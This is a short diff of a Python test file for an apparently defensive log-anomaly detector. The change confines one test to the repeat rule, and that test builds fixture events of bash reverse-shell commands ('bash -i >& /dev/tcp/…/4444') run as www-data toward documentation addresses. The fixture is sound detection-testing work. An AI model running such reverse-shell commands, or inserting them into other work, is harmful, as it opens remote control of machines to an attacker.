@@ -185,7 +185,8 @@ def test_one_command_seen_by_sudo_and_auditd_is_one_anomaly(sudo_model):
     assert "repeat_of" not in recs[0] and "repeat_of" not in recs[4]
 
 
-def test_an_alert_another_detector_flags_is_never_a_repeat(model):
+def test_an_alert_another_detector_flags_is_never_a_repeat(model, monkeypatch):
+    monkeypatch.setattr(model, "story_window", 0)   # the repeat rule alone (stories: test_stories.py)
     t = F.BASE + dt.timedelta(days=5, hours=10)
     shells = [F.command(t + dt.timedelta(seconds=i), ["bash", "-c", f"bash -i >& /dev/tcp/203.0.113.{i}/4444 0>&1"],
                         user="www-data") for i in range(1, 6)]
